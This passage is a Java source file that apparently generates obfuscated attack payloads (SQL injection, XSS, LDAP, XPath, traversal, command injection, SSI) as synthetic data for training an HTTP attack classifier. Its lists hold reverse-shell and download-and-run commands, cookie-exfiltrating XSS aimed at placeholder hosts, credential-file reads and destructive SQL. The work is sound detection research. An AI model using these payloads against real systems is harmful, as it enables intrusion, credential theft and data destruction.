package io.pfsmix.tfidf.generate;

import java.util.Locale;
import java.util.SplittableRandom;

import io.pfsmix.tfidf.HttpClass;

/**
 * Attack payloads of each ECML/PKDD 2007 class, in families: the techniques public attack taxonomies name (for SQL
 * injection: tautologies, UNION queries, error-based, time-based and boolean-blind inference, stacked queries; for XSS:
 * script tags, event handlers, script URIs, attribute break-outs, script-string break-outs, encoded markup, client-side
 * templates; ...). Each family composes its payloads from parts (quotes and closers, functions, tables, tags, events,
 * commands, files, ...) with random values, and from the obfuscations attackers use — case mixing, comments and other
 * whitespace, keyword splitting, quoting and globbing in shell words, character and entity encodings — so that no single
 * term marks a class. The parts are this project's own; which of a list a seed uses comes from {@link VariantSpace}.
 */
final class AttackPayloads {

  /** A payload and the family it belongs to. */
  static final class Payload {
    final String family;
    final String text;

    Payload(String family, String text) {
      this.family = family;
      this.text = text;
    }
  }

  static final String[] SQL_FAMILIES = {"tautology", "union", "error", "time", "blind", "stacked"};
  static final String[] XSS_FAMILIES = {"script-tag", "event-handler", "script-uri", "attribute", "script-string",
      "encoded", "template"};
  static final String[] LDAP_FAMILIES = {"wildcard", "or-filter", "and-filter", "null-byte", "attribute-probe"};
  static final String[] XPATH_FAMILIES = {"tautology", "union", "blind", "axis"};
  static final String[] TRAVERSAL_FAMILIES = {"dot-dot", "encoded", "backslash", "absolute", "bypass", "wrapper"};
  static final String[] COMMAND_FAMILIES = {"sequence", "pipe", "chain", "substitution", "bare", "windows"};
  static final String[] SSI_FAMILIES = {"exec", "include", "echo", "config", "esi"};

  private static final String[] TLDS = {"com", "net", "org", "io", "ru", "cn", "xyz", "top", "info", "me", "co", "dev"};
  private static final String[] WORDS = {"test", "admin", "foo", "bar", "data", "item", "guest", "root", "abc", "demo",
      "xyz", "probe", "info", "tmp", "check", "john", "user", "a", "x", "1", "hello", "name", "value", "shop", "page",
      "search", "news", "mail", "order", "login", "home", "blue", "red", "cat", "dog", "file", "stats", "cdn"};

  private final String[] sqlQuotes;
  private final String[] sqlComments;
  private final String[] sqlSpaces;
  private final String[] sqlTautologies;
  private final String[] sqlTables;
  private final String[] sqlColumns;
  private final String[] sqlFunctions;
  private final String[] sqlDelays;
  private final String[] sqlErrors;
  private final String[] sqlStacked;
  private final String[] xssTags;
  private final String[] xssEvents;
  private final String[] xssActions;
  private final String[] xssUris;
  private final String[] xssBreakers;
  private final String[] ldapAttributes;
  private final String[] ldapValues;
  private final String[] xpathNodes;
  private final String[] xpathFunctions;
  private final String[] xpathAxes;
  private final String[] traversalDirectories;
  private final String[] traversalFiles;
  private final String[] windowsFiles;
  private final String[] traversalEncodedSteps;
  private final String[] traversalBypassSteps;
  private final String[] traversalSuffixes;
  private final String[] traversalWrappers;
  private final String[] unixCommands;
  private final String[] windowsCommands;
  private final String[] commandSpaces;
  private final String[] ssiVariables;
  private final String[] ssiDirectives;

  AttackPayloads(VariantSpace v) {
    sqlQuotes = v.pick("sql.quote", "'", "'", "\"", "')", "'))", "\")", "", "", "`", "%27", "\\'");
    sqlComments = v.pick("sql.comment", "--", "-- -", "#", "/*", ";--", "", "", "--+", ";", "-- x", "%23", ";%00", "//");
    sqlSpaces = v.pick("sql.space", "/**/", "\t", "\n", "/*x*/", "  ", "%0b", "%0c", "\r\n", "+", "/*!*/", "%a0", "%09",
        "/*foo*/");
    sqlTautologies = v.pick("sql.tautology", "1=1", "{N}={N}", "'a'='a'", "2>1", "'x' LIKE 'x'", "true", "'1'='1'",
        "1<>2", "{N} BETWEEN 0 AND 999", "ISNULL(NULL)", "0x41=0x41", "'ab'='a'+'b'", "'ab'='a'||'b'", "not false",
        "1 IN (1)", "CHAR(65)=CHAR(65)", "{N}-1={N}-1", "'{W}'='{W}'", "1", "ascii('a')=97", "1 like 1", "{N}>={N}");
    sqlTables = v.pick("sql.table", "users", "admin", "accounts", "members", "information_schema.tables",
        "information_schema.columns", "mysql.user", "sysobjects", "pg_catalog.pg_tables", "customers", "orders", "dual",
        "sys.tables", "wp_users", "sqlite_master", "all_tables", "login", "employees", "pg_user", "master..sysdatabases",
        "user_tables", "products", "sessions");
    sqlColumns = v.pick("sql.column", "username", "password", "email", "passwd", "user_name", "credit_card", "table_name",
        "column_name", "pass", "login", "hash", "name", "api_key", "ssn", "role", "pwd", "usename", "id", "token");
    sqlFunctions = v.pick("sql.function", "version()", "user()", "database()", "@@version", "current_user",
        "sysdate()", "schema()", "@@hostname", "system_user", "session_user", "banner FROM v$version",
        "sqlite_version()", "current_database()", "db_name()", "@@datadir", "load_file('/etc/passwd')",
        "pg_read_file('/etc/passwd')", "user_name()", "@@servername", "now()", "host_name()", "inet_server_addr()");
    sqlDelays = v.pick("sql.delay", "SLEEP({N})", "sleep({N})", "pg_sleep({N})", "BENCHMARK({N}000000,MD5(1))",
        "dbms_pipe.receive_message(('a'),{N})", "randomblob({N}00000000)", "IF(1=1,SLEEP({N}),0)",
        "(SELECT * FROM (SELECT(SLEEP({N})))a)", "if(now()=sysdate(),sleep({N}),0)", "DBMS_LOCK.SLEEP({N})",
        "(select*from(select(sleep({N})))x)", "pg_sleep({N})::text", "SLEEP({N})=0", "benchmark({N}000000,sha1('x'))");
    sqlErrors = v.pick("sql.error", "extractvalue(1,concat(0x7e,({F})))", "updatexml(1,concat(0x3a,({F})),1)",
        "1=CONVERT(int,({F}))", "1=CAST(({F}) AS int)", "(SELECT 1 FROM(SELECT COUNT(*),CONCAT(({F}),FLOOR(RAND(0)*2))x "
        + "FROM {TB} GROUP BY x)a)", "exp(~(SELECT * FROM (SELECT {F})x))", "1=(SELECT 1/0)",
        "1=utl_inaddr.get_host_name(({F}))", "1=ctxsys.drithsx.sn(1,({F}))", "GTID_SUBSET(CONCAT(0x7e,({F})),1)",
        "JSON_KEYS((SELECT CONVERT(({F}) USING utf8)))", "1=(SELECT {CO} FROM {TB})::int", "polygon(({F}))");
    sqlStacked = v.pick("sql.stacked", "DROP TABLE {TB}", "EXEC xp_cmdshell('{CMD}')", "EXEC master..xp_dirtree "
        + "'\\\\{H}\\x'", "INSERT INTO {TB} ({CO}) VALUES ('{W}')", "UPDATE {TB} SET {CO}='{W}' WHERE 1=1", "SHUTDOWN",
        "DECLARE @q VARCHAR(99);SET @q='{W}';EXEC(@q)", "CREATE USER {W} IDENTIFIED BY '{W}'",
        "COPY (SELECT '') TO PROGRAM '{CMD}'", "TRUNCATE TABLE {TB}", "ALTER TABLE {TB} DROP COLUMN {CO}",
        "SELECT pg_sleep({N})", "DELETE FROM {TB}", "GRANT ALL ON *.* TO '{W}'@'%'", "WAITFOR DELAY '0:0:{N}'",
        "SELECT {F}", "CREATE TABLE {W}(x text)");
    xssTags = v.pick("xss.tag", "img", "svg", "video", "audio", "body", "iframe", "input", "div", "a", "p", "select",
        "textarea", "button", "details", "source", "object", "image", "x", "marquee", "style", "keygen", "math", "span",
        "table", "form", "isindex", "frameset");
    xssEvents = v.pick("xss.event", "onerror", "onload", "onmouseover", "onfocus", "onclick", "ontoggle", "onbegin",
        "onanimationstart", "onpageshow", "onpointerenter", "onwheel", "onscroll", "onmouseenter", "onauxclick",
        "onblur", "oninput", "onkeydown", "onresize", "onstart", "onfocusin", "onmousemove", "ontransitionend",
        "onpointerdown", "oncopy", "onbeforeprint");
    xssActions = v.pick("xss.action", "alert({N})", "alert(document.cookie)", "prompt({N})", "confirm({N})",
        "alert(String.fromCharCode(88,83,83))", "document.location='//{H}/c?'+document.cookie",
        "new Image().src='//{H}/l?c='+document.cookie", "eval(atob('{B64}'))",
        "fetch('//{H}/k',{method:'POST',body:document.cookie})", "window.open('//{H}/')", "top['al'+'ert']({N})",
        "setTimeout('alert({N})')", "print()", "alert(document.domain)", "console.log(localStorage.getItem('token'))",
        "eval(location.hash.slice(1))", "document.write('<img src=//{H}/'+document.cookie+'>')", "self[`alert`]({N})",
        "this.src='//{H}/p?'+escape(document.cookie)", "navigator.sendBeacon('//{H}/b',document.cookie)", "alert`{N}`",
        "(alert)({N})", "[{N}].find(alert)", "alert?.({N})", "import('//{H}/m.js')", "location='//{H}/?'+document.cookie",
        "window['ale'+'rt'](window['doc'+'ument']['dom'+'ain'])", "Function('ale'+'rt({N})')()", "{N}..constructor",
        "onerror=alert;throw {N}", "parent.postMessage(document.cookie,'*')");
    xssUris = v.pick("xss.uri", "javascript:{A}", "JaVaScRiPt:{A}", "javascript://%0a{A}", "java\tscript:{A}",
        "&#106;avascript:{A}", "javascript&colon;{A}", "data:text/html;base64,{B64}", "data:text/html,<script>{A}</script>",
        "vbscript:msgbox({N})", " javascript:{A}", "jav&#x09;ascript:{A}", "javascript:void({A})");
    xssBreakers = v.pick("xss.breaker", "\">", "'>", "</title>", "</textarea>", "-->", "\"/>", "</script>", "'\">",
        "</style>", "]]>", "\">'", "</noscript>", "</option></select>", "\"]>", "<!--", "*/");
    ldapAttributes = v.pick("ldap.attribute", "uid", "cn", "sn", "mail", "objectClass", "userPassword", "memberOf",
        "sAMAccountName", "givenName", "ou", "dc", "telephoneNumber", "description", "homeDirectory", "loginShell",
        "uidNumber", "gidNumber", "member", "displayName", "userAccountControl", "pwdLastSet", "objectCategory");
    ldapValues = v.pick("ldap.value", "*", "admin", "a*", "*admin*", "person", "user", "top", "posixAccount", "group",
        "inetOrgPerson", "computer", "root", "*@*", "0*", "organizationalUnit", "Administrators", "{W}*", "*{W}",
        "\\2a", "manager");
    xpathNodes = v.pick("xpath.node", "user", "users", "account", "password", "pass", "username", "name", "role", "node",
        "item", "secret", "config", "root", "credential", "employee", "member", "login", "token", "entry", "customer",
        "book", "email", "salary");
    xpathFunctions = v.pick("xpath.function", "substring(//{X}[{N}]/{X},{N},1)='{L}'",
        "string-length(//{X}[{N}]/{X})>{N}", "count(//{X})={N}", "starts-with(//{X}/{X},'{L}')",
        "contains(//{X}/{X},'{W}')", "name(/*[{N}])='{X}'", "normalize-space(//{X}/{X})='{W}'",
        "string-length(name(/*[1]))={N}", "translate(//{X}/{X},'abc','ABC')='{W}'", "boolean(//{X})",
        "number(//{X}[{N}]/@id)>{N}", "concat(//{X}/{X},'')='{W}'", "count(/child::node())={N}",
        "substring-before(//{X}/{X},'{L}')=''", "lang('{L}')");
    xpathAxes = v.pick("xpath.axis", "//*", "/descendant::{X}", "//{X}/*", "/child::node()", "//{X}/ancestor::*",
        "//{X}/following-sibling::*", "/*[1]/*[{N}]", "//{X}[position()={N}]", "//text()", "//comment()",
        "//{X}[@*]", "//@*", "/descendant-or-self::node()", "//{X}/parent::*", "//processing-instruction()");
    traversalDirectories = v.pick("traversal.dir", "etc", "proc/self", "var/log", "var/www/html", "root", "home/{W}",
        "usr/local/etc", "opt/{W}", "var/lib/mysql", "boot", "app/config", "WEB-INF", "srv/www", "etc/nginx",
        "etc/apache2", "etc/ssh", "var/run/secrets/kubernetes.io/serviceaccount", "usr/share", "tmp", "var/mail");
    traversalFiles = v.pick("traversal.file", "passwd", "shadow", "hosts", "group", "issue", "environ", "cmdline",
        "version", "access.log", "error.log", "config.php", "wp-config.php", ".env", "id_rsa", ".bash_history",
        "web.xml", "database.yml", "my.cnf", "httpd.conf", "nginx.conf", "token", "settings.py", "credentials",
        "authorized_keys", "sshd_config", "php.ini", "parameters.yml", ".htpasswd", "os-release", "crontab",
        "application.properties", "mounts", "status", "resolv.conf");
    windowsFiles = v.pick("traversal.windows", "windows\\win.ini", "boot.ini", "windows\\system32\\drivers\\etc\\hosts",
        "inetpub\\wwwroot\\web.config", "windows\\repair\\sam", "windows\\system.ini", "Users\\Administrator\\NTUser.dat",
        "windows\\debug\\NetSetup.log", "ProgramData\\MySQL\\my.ini", "windows\\panther\\unattend.xml",
        "xampp\\apache\\conf\\httpd.conf");
    traversalEncodedSteps = v.pick("traversal.encoded", "%2e%2e%2f", "%2e%2e/", "..%2f", "%252e%252e%252f", "..%252f",
        "..%c0%af", "%c0%ae%c0%ae/", "%2e%2e%5c", "..%5c", "..%255c", ".%2e/", "%%32%65%%32%65/", "..%e0%80%af",
        "%uff0e%uff0e/", "..%u2215", "%2E%2E%2F", "..%C0%AF", ".%252e/");
    traversalBypassSteps = v.pick("traversal.bypass", "....//", "..././", "..;/", ".../...//", "..//", "...\\.\\",
        "..\\/", "/./../", "....\\\\", "..;\\", "./../", "..///", ".//..//");
    traversalSuffixes = v.pick("traversal.suffix", "", "", "", "", "%00", "%00.jpg", "%00.html", "?", "/.", ".", "%20",
        "#", "%00.png", ";.css", "?v=1");
    traversalWrappers = v.pick("traversal.wrapper", "php://filter/convert.base64-encode/resource={T}",
        "php://filter/read=string.rot13/resource={T}", "file://{T}", "php://filter/resource={T}", "zip://{T}%23{W}",
        "phar://{T}/{W}", "jar:file:{T}!/", "compress.zlib://{T}", "php://filter/convert.iconv.utf-8.utf-16/resource={T}",
        "netdoc:///{T}", "file:/{T}", "glob://{T}");
    unixCommands = v.pick("command.unix", "cat {F}", "id", "whoami", "uname -a", "ls -la {D}", "wget http://{H}/{W}.sh -O "
        + "/tmp/{W}", "curl -s http://{H}/{W} | sh", "nc -e /bin/sh {H} {P}", "bash -i >& /dev/tcp/{H}/{P} 0>&1",
        "ping -c {N} {H}", "sleep {N}", "cat /proc/version", "echo {W}", "rm -f /tmp/{W};mkfifo /tmp/{W}",
        "python3 -c 'import os;os.system(\"id\")'", "perl -e 'exec \"/bin/sh\"'", "nslookup {W}.{H}",
        "busybox telnetd -p {P} -l /bin/sh", "chmod +x /tmp/{W}", "/bin/sh -c id", "head -n {N} {F}", "find / -perm -4000",
        "crontab -l", "env", "netstat -an", "php -r 'system(\"id\");'", "awk 'BEGIN{system(\"id\")}'", "getent passwd",
        "tail -{N} {F}", "hostname", "pwd", "ps aux", "ifconfig", "ip a", "cut -d: -f1 {F}", "curl {H}/$(whoami)",
        "dig {W}.{H}", "base64 {F}", "tac {F}", "nl {F}", "more {F}", "less {F}", "xxd {F}", "grep -r {W} {D}",
        "touch /tmp/{W}", "cp {F} /tmp/{W}", "which nc", "cat {F} | nc {H} {P}", "sh", "bash", "w", "last", "who",
        "timeout {N} bash", "ls", "dir", "uname", "whoami;id", "reboot", "kill -9 -1", "echo $PATH");
    windowsCommands = v.pick("command.windows", "whoami", "type {WF}", "dir {WD}", "ver", "ipconfig /all", "net user",
        "systeminfo", "tasklist", "powershell -nop -c iex(iwr http://{H}/{W})", "certutil -urlcache -f http://{H}/{W}.exe "
        + "{W}.exe", "ping -n {N} 127.0.0.1", "timeout /t {N}", "cmd /c whoami", "net localgroup administrators",
        "hostname", "set", "wmic os get caption", "reg query HKLM\\SAM", "nslookup {W}.{H}", "echo %USERNAME%",
        "bitsadmin /transfer {W} http://{H}/{W}.exe C:\\Temp\\{W}.exe", "powershell.exe -enc {B64}", "findstr /s {W} *.*");
    commandSpaces = v.pick("command.space", " ", " ", " ", " ", "${IFS}", "\t", "$IFS$9", "%09", "  ", "${IFS%??}",
        "<", "+");
    ssiVariables = v.pick("ssi.variable", "DOCUMENT_NAME", "DOCUMENT_URI", "DATE_LOCAL", "DATE_GMT", "LAST_MODIFIED",
        "QUERY_STRING_UNESCAPED", "REMOTE_ADDR", "SERVER_SOFTWARE", "HTTP_USER_AGENT", "HTTP_COOKIE", "SERVER_NAME",
        "REMOTE_USER", "SCRIPT_FILENAME", "USER_NAME", "HTTP_REFERER", "PATH", "DOCUMENT_ROOT", "SERVER_ADDR");
    ssiDirectives = v.pick("ssi.config", "config timefmt=\"%A %B %d\"", "config errmsg=\"{W}\"", "config sizefmt=\"bytes\"",
        "fsize file=\"{SF}\"", "flastmod virtual=\"{SF}\"", "set var=\"{SV}\" value=\"{W}\"",
        "if expr=\"${SV} = /{W}/\"", "config timefmt='%s'", "fsize virtual=\"{SF}\"", "set var=\"x\" value=\"${SV}\"",
        "flastmod file=\"{SF}\"");
  }

  Payload payload(HttpClass type, SplittableRandom r) {
    switch (type) {
      case XSS:
        return xss(r);
      case SQL_INJECTION:
        return sql(r);
      case LDAP_INJECTION:
        return ldap(r);
      case XPATH_INJECTION:
        return xpath(r);
      case PATH_TRAVERSAL:
        return traversal(r);
      case OS_COMMAND:
        return command(r);
      case SSI:
        return ssi(r);
      default:
        throw new IllegalArgumentException("not an attack class: " + type);
    }
  }

  /** The families of an attack class, as its payloads name them. */
  static String[] families(HttpClass type) {
    switch (type) {
      case XSS:
        return XSS_FAMILIES.clone();
      case SQL_INJECTION:
        return SQL_FAMILIES.clone();
      case LDAP_INJECTION:
        return LDAP_FAMILIES.clone();
      case XPATH_INJECTION:
        return XPATH_FAMILIES.clone();
      case PATH_TRAVERSAL:
        return TRAVERSAL_FAMILIES.clone();
      case OS_COMMAND:
        return COMMAND_FAMILIES.clone();
      case SSI:
        return SSI_FAMILIES.clone();
      default:
        throw new IllegalArgumentException("not an attack class: " + type);
    }
  }

  // ---- SQL injection ----

  private Payload sql(SplittableRandom r) {
    String family = one(r, SQL_FAMILIES);
    String quote = one(r, sqlQuotes);
    String lead = quote.isEmpty() || r.nextInt(3) == 0 ? value(r) : r.nextInt(4) == 0 ? "" : value(r);
    String comment = one(r, sqlComments);
    String and = r.nextBoolean() ? " AND " : r.nextBoolean() ? " OR " : r.nextBoolean() ? " && " : " || ";
    String p;
    switch (family) {
      case "tautology": {
        int shape = r.nextInt(6);
        if (shape == 0) {
          p = lead + quote + " OR " + expand(one(r, sqlTautologies), r) + comment;
        } else if (shape == 1) {
          p = lead + quote + " or " + quote + quote + "=" + quote;
        } else if (shape == 2) {
          String w = word(r);
          p = lead + quote + " OR " + quote + w + quote + "=" + quote + w;
        } else if (shape == 3) {
          p = one(r, new String[] {"admin", word(r), "root", "administrator"}) + quote + (r.nextBoolean() ? comment
              : " or " + expand(one(r, sqlTautologies), r) + comment);
        } else if (shape == 4) {
          p = lead + quote + " || " + expand(one(r, sqlTautologies), r) + comment;
        } else {
          p = lead + quote + and + expand(one(r, sqlTautologies), r) + comment;
        }
        break;
      }
      case "union": {
        StringBuilder columns = new StringBuilder();
        int count = r.nextInt(1, 9);
        int at = r.nextInt(count);
        for (int k = 0; k < count; k++) {
          columns.append(k > 0 ? "," : "").append(k == at ? (r.nextBoolean() ? expand("{F}", r) : r.nextBoolean()
              ? "group_concat(" + one(r, sqlColumns) + ")" : "concat(" + one(r, sqlColumns) + ",0x3a," + one(r, sqlColumns)
              + ")") : r.nextInt(3) == 0 ? one(r, sqlColumns) : r.nextBoolean() ? "NULL" : Integer.toString(k + 1));
        }
        String union = one(r, new String[] {"UNION SELECT", "UNION ALL SELECT", "UNION DISTINCT SELECT",
            "union select", "UNION(SELECT", "/*!UNION*/ /*!SELECT*/", "/*!50000union*/ /*!50000select*/",
            "UNI/**/ON SEL/**/ECT", "UNION%0ASELECT", "uNiOn aLl sElEcT"});
        String from = r.nextBoolean() ? " FROM " + one(r, sqlTables) + (r.nextInt(3) == 0 ? " WHERE 1=1" : "") : "";
        p = (r.nextInt(4) == 0 ? "-" + r.nextInt(1, 9999) : lead) + quote + " " + union + " " + columns + from
            + (union.endsWith("(SELECT") ? ")" : "") + comment;
        break;
      }
      case "error":
        p = lead + quote + and + expand(one(r, sqlErrors), r) + comment;
        break;
      case "time": {
        String delay = expand(one(r, sqlDelays), r);
        int shape = r.nextInt(5);
        if (shape == 0) {
          p = delay;
        } else if (shape == 1) {
          p = lead + quote + and + delay + comment;
        } else if (shape == 2) {
          p = lead + quote + ";" + (r.nextBoolean() ? "WAITFOR DELAY '0:0:" + r.nextInt(2, 30) + "'" : "SELECT " + delay)
              + comment;
        } else if (shape == 3) {
          p = quote + "XOR(" + delay + ")XOR" + quote + (quote.isEmpty() ? "" : "Z");
        } else {
          p = lead + quote + and + r.nextInt(1, 9999) + "=(" + (r.nextBoolean() ? "SELECT " + r.nextInt(1, 9999)
              + " FROM " + delay : "CASE WHEN (1=1) THEN " + delay + " ELSE 1 END") + ")" + comment;
        }
        break;
      }
      case "blind": {
        String table = one(r, sqlTables);
        String column = one(r, sqlColumns);
        int n = r.nextInt(1, 40);
        String[] tests = {"SUBSTRING((" + expand("{F}", r) + ")," + n + ",1)='" + letter(r) + "'",
            "ASCII(SUBSTR((SELECT " + column + " FROM " + table + " LIMIT 1)," + n + ",1))>" + r.nextInt(32, 127),
            "(SELECT COUNT(*) FROM " + table + ")>" + n, "LENGTH(" + expand("{F}", r) + ")=" + n,
            "MID(" + expand("{F}", r) + ",1,1)='" + r.nextInt(1, 10) + "'", n + "=" + (r.nextBoolean() ? n : n + 1),
            "EXISTS(SELECT * FROM " + table + ")", "ORD(MID((SELECT IFNULL(CAST(" + column + " AS CHAR),0x20) FROM "
            + table + " ORDER BY " + column + " LIMIT " + n + ",1)," + n + ",1))>" + r.nextInt(32, 127),
            "(SELECT " + column + " FROM " + table + " WHERE " + column + " LIKE '" + letter(r) + "%') IS NOT NULL",
            "1 RLIKE (SELECT (CASE WHEN (" + n + "=" + n + ") THEN 1 ELSE 0x28 END))"};
        int shape = r.nextInt(4);
        if (shape == 0) {
          p = lead + quote + " ORDER BY " + r.nextInt(1, 30) + comment;
        } else if (shape == 1) {
          p = lead + quote + " GROUP BY " + (r.nextBoolean() ? column : Integer.toString(n)) + " HAVING 1=1" + comment;
        } else {
          p = lead + quote + and + one(r, tests) + comment;
        }
        break;
      }
      default:
        p = lead + quote + ";" + (r.nextBoolean() ? " " : "") + expand(one(r, sqlStacked), r) + comment;
    }
    return new Payload(family, obfuscateSql(p, r));
  }

  /** Case mixing, comments or other whitespace for spaces, as filter evasion writes SQL. */
  private String obfuscateSql(String p, SplittableRandom r) {
    int roll = r.nextInt(10);
    if (roll < 2) {
      p = Evasions.mixCase(p, r);
    } else if (roll < 4) {
      p = p.toLowerCase(Locale.ROOT);
    }
    if (r.nextInt(3) == 0) {
      p = Evasions.respace(p, one(r, sqlSpaces));
    }
    return p;
  }

  // ---- cross-site scripting ----

  private Payload xss(SplittableRandom r) {
    String family = one(r, XSS_FAMILIES);
    String p;
    switch (family) {
      case "script-tag": {
        String open = one(r, new String[] {"<script>", "<ScRiPt>", "<script type=\"text/javascript\">", "<script >",
            "<SCRIPT>", "<script\t>", "<script/x>", "<scr<script>ipt>"});
        p = breaker(r) + (r.nextInt(4) == 0 ? "<script src=" + (r.nextBoolean() ? "//" : "https://") + host(r) + "/"
            + word(r) + ".js></script>" : open + action(r) + one(r, new String[] {"</script>", "</SCRIPT>", "//",
            "</script >", "</scr</script>ipt>"}));
        break;
      }
      case "event-handler": {
        String tag = one(r, xssTags);
        String event = one(r, xssEvents);
        String space = one(r, new String[] {" ", "/", "\t", "\n", " /"});
        int shape = r.nextInt(4);
        if (shape == 0) {
          p = breaker(r) + "<" + tag + space + "src=x" + space + event + "=" + action(r) + ">";
        } else if (shape == 1) {
          p = breaker(r) + "<" + tag + space + event + "=\"" + action(r) + "\"" + (r.nextBoolean() ? " autofocus" : "")
              + ">" + (r.nextBoolean() ? word(r) + "</" + tag + ">" : "");
        } else if (shape == 2) {
          p = breaker(r) + "<" + one(r, new String[] {"svg", "body", "details open", "marquee", "video", "style"}) + space
              + event + "=" + action(r) + ">";
        } else {
          p = breaker(r) + "<" + tag + " " + event + "='" + action(r) + "' x=" + word(r) + ">";
        }
        if (r.nextInt(5) == 0) {
          p = Evasions.mixCase(p, r);
        }
        break;
      }
      case "script-uri": {
        String uri = expand(one(r, xssUris), r);
        int shape = r.nextInt(4);
        p = shape == 0 ? uri : shape == 1 ? breaker(r) + "<a href=\"" + uri + "\">" + word(r) + "</a>"
            : shape == 2 ? breaker(r) + "<" + one(r, new String[] {"iframe src", "embed src", "object data", "form action",
            "math href", "base href"}) + "=\"" + uri + "\">" : breaker(r) + "<meta http-equiv=\"refresh\" content=\"0;url="
            + uri + "\">";
        break;
      }
      case "attribute": {
        String q = r.nextBoolean() ? "\"" : "'";
        p = q + one(r, new String[] {" ", "/", "\t", "><"}) + (r.nextBoolean() ? "" : "autofocus ") + one(r, xssEvents)
            + "=" + q + action(r) + (r.nextBoolean() ? q : " x=" + q) + (r.nextInt(3) == 0 ? ">" : "");
        if (r.nextInt(4) == 0) {
          p = q + " style=" + q + "x:expression(" + action(r) + ")" + q;
        }
        break;
      }
      case "script-string": {
        String q = one(r, new String[] {"'", "\"", "`", "\\'", "\\\""});
        p = one(r, new String[] {q + ";" + action(r) + ";//", q + "-" + action(r) + "-" + q, q + "+" + action(r) + "+" + q,
            "</script><svg onload=" + action(r) + ">", q + "};" + action(r) + ";{" + q, "${" + action(r) + "}",
            q + ");" + action(r) + "//", q + "," + action(r) + "," + q});
        break;
      }
      case "encoded": {
        String markup = r.nextBoolean() ? "<script>" + action(r) + "</script>" : "<" + one(r, xssTags) + " src=x "
            + one(r, xssEvents) + "=" + action(r) + ">";
        p = encodeMarkup(markup, r);
        break;
      }
      default:
        p = one(r, new String[] {"{{constructor.constructor('" + action(r).replace("'", "\"") + "')()}}",
            "{{$on.constructor('" + action(r).replace("'", "\"") + "')()}}", "{{" + action(r) + "}}",
            "<div ng-app ng-csp><div ng-focus=\"" + action(r) + "\" tabindex=0>" + word(r) + "</div></div>",
            "[[${" + action(r) + "}]]", "{{_c.constructor('" + action(r).replace("'", "\"") + "')()}}",
            "<x v-html=\"_c.constructor('" + action(r).replace("'", "\"") + "')()\">"});
    }
    return new Payload(family, p);
  }

  /** Markup as it reaches a sink that decodes it: UTF-7, HTML entities or JavaScript escapes. */
  private static String encodeMarkup(String markup, SplittableRandom r) {
    int style = r.nextInt(5);
    StringBuilder out = new StringBuilder();
    for (int i = 0; i < markup.length(); i++) {
      char c = markup.charAt(i);
      boolean special = c == '<' || c == '>' || c == '"' || c == '\'' || c == '(' || c == ')';
      if (!special) {
        out.append(c);
      } else if (style == 0) {
        // UTF-7: +ADw- is '<', +AD4- is '>'
        out.append(c == '<' ? "+ADw-" : c == '>' ? "+AD4-" : c == '"' ? "+ACI-" : c == '\'' ? "+ACc-" : c == '('
            ? "+ACg-" : "+ACk-");
      } else if (style == 1) {
        out.append(c == '<' ? "&lt;" : c == '>' ? "&gt;" : c == '"' ? "&quot;" : String.valueOf(c));
      } else if (style == 2) {
        out.append("&#").append(r.nextBoolean() ? Integer.toString(c) : "x" + Integer.toHexString(c)).append(';');
      } else if (style == 3) {
        out.append(String.format(Locale.ROOT, "\\x%02x", (int) c));
      } else {
        out.append(String.format(Locale.ROOT, "\\u%04x", (int) c));
      }
    }
    return out.toString();
  }

  private String breaker(SplittableRandom r) {
    return r.nextInt(3) == 0 ? one(r, xssBreakers) : "";
  }

  private String action(SplittableRandom r) {
    return expand(one(r, xssActions), r);
  }

  // ---- LDAP injection ----

  private Payload ldap(SplittableRandom r) {
    String family = one(r, LDAP_FAMILIES);
    String a = one(r, ldapAttributes);
    String b = one(r, ldapAttributes);
    String v = expand(one(r, ldapValues), r);
    String w = r.nextBoolean() ? word(r) : "";
    String p;
    switch (family) {
      case "wildcard":
        p = one(r, new String[] {"*", w + "*", "*" + w + "*", "*)(" + a + "=*", w + "*)(" + a + "=*", "*))",
            w + ")(" + a + "=*)", "\\2a", "*)(" + a + "=" + v});
        break;
      case "or-filter":
        p = one(r, new String[] {"*)(|(" + a + "=*))", w + ")(|(" + a + "=" + v + "))", w + "*)(|(" + a + "=*",
            "*)(|(" + a + "=" + v + ")(" + b + "=*))", "(|(" + a + "=" + v + ")(" + b + "=*))", w + "))(|(" + a + "=*"});
        break;
      case "and-filter":
        p = one(r, new String[] {w + ")(&)", "*)(&(" + a + "=*))", w + "))(&(" + a + "=" + v + ")", "(&(" + a + "=" + v
            + ")(" + b + "=*))", w + ")(&(" + a + "=" + v + ")(!(" + b + "=*)))", "*)(&(objectClass=*)(" + a + "=" + v + "))"});
        break;
      case "null-byte":
        p = one(r, new String[] {"*))%00", w + "*))%00", w + ")(" + a + "=*))%00", "*)(" + a + "=*))%00", w + "%00", "admin)(" + a + "=*)%00"});
        break;
      default:
        p = one(r, new String[] {"*)(" + a + "=" + letter(r) + "*", w + ")(" + a + "=" + letter(r) + letter(r) + "*)",
            "*)(" + a + "=*" + w + "*)(" + b + "=*", w + "*)(!(" + a + "=" + v + "))", "*)(" + a + ">=" + r.nextInt(100),
            "*)(" + a + "~=" + w + ")"});
    }
    return new Payload(family, p);
  }

  // ---- XPath injection ----

  private Payload xpath(SplittableRandom r) {
    String family = one(r, XPATH_FAMILIES);
    String q = r.nextInt(4) == 0 ? "\"" : "'";
    String w = word(r);
    String p;
    switch (family) {
      case "tautology":
        p = one(r, new String[] {q + " or " + q + "1" + q + "=" + q + "1", q + " or " + q + q + "=" + q, w + q
            + " or 1=1 or " + q + "x" + q + "=" + q + "y", q + " or true() or " + q, w + q + " or name()=" + q
            + one(r, xpathNodes) + q + " or " + q + "a" + q + "=" + q + "b", r.nextInt(1, 99) + " or 1=1",
            q + " or position()=" + r.nextInt(1, 9) + " or " + q, q + " or not(" + q + "a" + q + "=" + q + "b" + q + ") or "
            + q});
        break;
      case "union":
        p = one(r, new String[] {q + "] | " + expand(one(r, xpathAxes), r) + " | a[" + q, q + ")] | "
            + expand(one(r, xpathAxes), r) + " | a[(" + q, "| " + expand(one(r, xpathAxes), r), w + q + "] | //"
            + one(r, xpathNodes) + " | //*[" + q, q + "]|//" + one(r, xpathNodes) + "/text()|a[" + q});
        break;
      case "blind":
        p = q + " " + (r.nextBoolean() ? "and" : "or") + " " + expand(one(r, xpathFunctions), r) + " "
            + (r.nextBoolean() ? "and " + q + "1" + q + "=" + q + "1" : "or " + q);
        break;
      default:
        p = one(r, new String[] {q + "]" + expand(one(r, xpathAxes), r) + "[" + q, expand(one(r, xpathAxes), r)
            + "[contains(.," + q + w + q + ")]", q + " or count(" + expand(one(r, xpathAxes), r) + ")>" + r.nextInt(0, 9)
